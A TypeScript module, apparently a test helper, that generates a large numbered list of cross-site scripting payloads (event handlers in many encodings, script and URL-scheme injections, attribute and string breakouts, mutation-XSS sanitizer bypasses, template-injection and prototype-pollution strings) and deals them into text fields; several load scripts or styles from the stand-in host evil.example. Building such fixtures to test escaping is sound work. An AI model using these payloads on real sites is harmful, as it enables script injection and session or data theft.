/**
 * Script payloads: texts that would run as a script wherever a page took them for markup, an address, a style or a
 * template. They are made of parts: elements × what sets them off × ways of writing it, then what breaks out of the
 * places a text may stand in. Each calls `xss` with its own number. None has a control character, which no text of ours
 * takes.
 */

const CALL = 'xss(0)'

/** Elements that do something by themselves, and what they do it with. */
const ELEMENTS: [string, string][] = [
  ['img src=x', 'onerror'],
  ['img srcset=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['div tabindex=1 autofocus', 'onfocus'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['style', 'onload'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['b style=animation:spin+1s', 'onanimationstart'],
  ['p style=transition:1s', 'ontransitionend'],
  ['input type=image src=x', 'onerror'],
  ['meter', 'onmouseover'],
  ['x contenteditable', 'onblur'],
  ['form', 'onsubmit'],
]

/** One handler written in so many ways. */
const WRITINGS: ((element: string, event: string) => string)[] = [
  (element, event) => `<${element} ${event}=${CALL}>`,
  (element, event) => `<${element} ${event}="${CALL}">`,
  (element, event) => `<${element} ${event}='${CALL}'//`,
  (element, event) => `<${element.toUpperCase()} ${event.toUpperCase()}=${CALL}>`,
  (element, event) => `<${element.replaceAll(' ', '/')}/${event}=${CALL}>`,
  (element, event) => `"><${element} ${event}=${CALL}>`,
  (element, event) => `'><${element} ${event}=${CALL}>`,
  (element, event) => `<${element} ${event}=&#x78;ss(0)>`,
  (element, event) => `<${element} ${event}=x&#115;s&lpar;0&rpar;>`,
  (element, event) => `<${element} ${event}=\\u0078ss(0)>`,
  (element, event) => `</textarea></title></style><${element} ${event}=${CALL}>`,
  (element, event) => `--></script><${element} ${event}=${CALL}>`,
]

const SCRIPTS = [
  `<script>${CALL}</script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script/x>${CALL}</script>`,
  `<script type=module>${CALL}</script>`,
  `<script src=data:text/javascript,${CALL}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href=data:,${CALL} />`,
  `<math><script>${CALL}</script></math>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${CALL}</script>`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `＜script＞${CALL}＜/script＞`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `%253Cscript%253E${CALL}%253C/script%253E`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${CALL}&amp;gt;`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `\\x3cimg src=x onerror=${CALL}\\x3e`,
]

/** Where an address is expected. */
const SCHEMES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` javascript:${CALL}`,
  `javascript://x%0a${CALL}`,
  `javascript&colon;${CALL}`,
  `java&Tab;script:${CALL}`,
  `java&NewLine;script:${CALL}`,
  `&#106;avascript:${CALL}`,
  `javascript:void(${CALL})`,
  `javascript:'<script>${CALL}</script>'`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD54c3MoMCk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  `vbscript:${CALL}`,
  `view-source:javascript:${CALL}`,
  `blob:null/${CALL}`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `https://evil.example"onmouseover="${CALL}`,
]

const LINKS: ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">x</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `[x](${address})`,
  (address) => `<${address}>`,
  (address) => `<form action="${address}"><input type=submit autofocus>`,
]

const PLACES = [
  // In a text of a script.
  `';${CALL}//`,
  `";${CALL}//`,
  `\\';${CALL}//`,
  `\\";${CALL}//`,
  `\`;${CALL}//`,
  `\${${CALL}}`,
  `'-${CALL}-'`,
  `"-${CALL}-"`,
  `"+${CALL}+"`,
  `'})};${CALL};({a:{b:'`,
  `]]);${CALL};//`,
  `*/${CALL}/*`,
  `</script><script>${CALL}</script>`,
  `<!--<script>${CALL}`,
  `-->${CALL}`,
  `\u2028${CALL}//`,
  // In an attribute.
  `" onmouseover="${CALL}`,
  `' onmouseover='${CALL}`,
  `\` onmouseover=\`${CALL}`,
  `x onmouseover=${CALL} y`,
  `" autofocus onfocus="${CALL}" x="`,
  `' autofocus onfocus='${CALL}' x='`,
  `" style="animation-name:spin" onanimationstart="${CALL}`,
  `" accesskey="x" onclick="${CALL}`,
  `"/><svg/onload=${CALL}>`,
  // In a style.
  `</style><script>${CALL}</script>`,
  `<style>@import'//evil.example/x.css'</style>`,
  `<style>*{background:url(//evil.example/x)}</style>`,
  `<p style="background:url(javascript:${CALL})">`,
  `<p style="x:expression(${CALL})">`,
  `<p style="-moz-binding:url(//evil.example/x#x)">`,
  `red;background:url(//evil.example/y)`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  // In a document.
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<meta charset=utf-7>+ADw-img src=x onerror=${CALL}+AD4-`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${CALL}&gt;"></iframe>`,
  `<object data="data:text/html,<script>parent.${CALL}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>">`,
  `<portal src=javascript:${CALL}>`,
  `<img src='//evil.example/?`,
  `<picture><source srcset=x><img src=x onerror=${CALL}></picture>`,
  `<img src="x" srcset="x 1x, y 2x" sizes=1 onerror=${CALL}>`,
  // What changes its meaning when it is read twice.
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>`,
  `<svg></p><style><a id="</style><img src=x onerror=${CALL}>">`,
  `<math><mtext><img title="</mtext><img src=x onerror=${CALL}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
  `<svg><foreignObject><iframe onload=${CALL}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${CALL}</script></svg>#x"/>`,
  `<svg><a xlink:href="javascript:${CALL}"><text x=9 y=9>x</text></a></svg>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${CALL}">x</maction></math>`,
  `<table background=javascript:${CALL}><td background=javascript:${CALL}>`,
  `<div><template shadowrootmode=open><img src=x onerror=${CALL}></template></div>`,
  `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`,
  // In the languages of templates, of Markdown and of clients.
  `{{constructor.constructor('${CALL}')()}}`,
  `{{$on.constructor('${CALL}')()}}`,
  `{{7*7}}\${7*7}#{7*7}<%= 7*7 %>`,
  `[[\${T(java.lang.Runtime)}]]`,
  `![x](x"onerror="${CALL})`,
  `[x]: javascript:${CALL} "x"`,
  `![x](data:image/svg+xml,<svg/onload=${CALL}>)`,
  `\`\`\`<img src=x onerror=${CALL}>`,
  `[x](https://evil.example "onmouseover=${CALL}")`,
  `{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","onError":"${CALL}"}}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${CALL}>"}}`,
  `__proto__[innerHTML]=<img src=x onerror=${CALL}>`,
  `{"__proto__":{"src":"data:,${CALL}"}}`,
  `[object Object]<img src=x onerror=${CALL}>`,
  // Letters that hide.
  `\u202e>${CALL}=rorreno x=crs gmi<`,
  `\ufeff<img src=x onerror=${CALL}>`,
  `<img\u00a0src=x\u00a0onerror=${CALL}>`,
  `<\u200bimg src=x onerror=${CALL}>`,
  `ſcript <ſcript>${CALL}</ſcript>`,
]

function all(): string[] {
  const handled = ELEMENTS.flatMap(([element, event]) => WRITINGS.map((write) => write(element, event)))
  const linked = SCHEMES.flatMap((address) => LINKS.map((link) => link(address)))
  const texts = [...new Set([...handled, ...SCRIPTS, ...linked, ...PLACES].map((text) => text.trim()))]
  // Each tells by its number which it was.
  return texts.map((text, at) => text.replaceAll('(0)', `(${at})`).replaceAll('&lpar;0&rpar;', `&lpar;${at}&rpar;`))
}

/** All of them. */
export const PAYLOADS: readonly string[] = all()

/** Deals them out, so that each gets its turn in each sort of text as far as there is room. */
/** Line separators and marks of direction. */
const UNSEEN = /[\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069]/

export class Dealer {
  private next = 0
  private readonly used = new Set<number>()
  planted = 0
  private readonly order = PAYLOADS.map((_, at) => at)

  /** A name of at most so many letters: payloads with letters that no name may have are dealt later. */
  name(letters: number): string {
    return this.text(letters, ' ', UNSEEN)
  }

  /** One text of at most so many letters, of one payload or of many. `apart` stands between them. */
  text(letters: number, apart = ' ', unfit?: RegExp): string {
    let text = ''
    for (let tried = 0; tried < PAYLOADS.length; tried += 1) {
      if (unfit) this.putOff(unfit)
      const at = this.order[this.next % PAYLOADS.length] ?? 0
      const payload = PAYLOADS[at] ?? ''
      const longer = text === '' ? payload : text + apart + payload
      if (longer.length > letters) {
        if (text !== '') break
        this.next += 1
        continue
      }
      text = longer
      this.next += 1
      this.planted += 1
      this.used.add(at)
    }
    return text
  }

  /** Lets what comes next change places with the next one that fits. */
  private putOff(unfit: RegExp) {
    const fits = (place: number) => !unfit.test(PAYLOADS[this.order[place % PAYLOADS.length] ?? 0] ?? '')
    const first = this.next % PAYLOADS.length
    for (let step = 0; step < PAYLOADS.length; step += 1) {
      if (!fits(first + step)) continue
      const other = (first + step) % PAYLOADS.length
      const [one, two] = [this.order[first] ?? 0, this.order[other] ?? 0]
      this.order[first] = two
      this.order[other] = one
      return
    }
  }

  /** How many different ones were dealt. */
  get different(): number {
    return this.used.size
  }
}
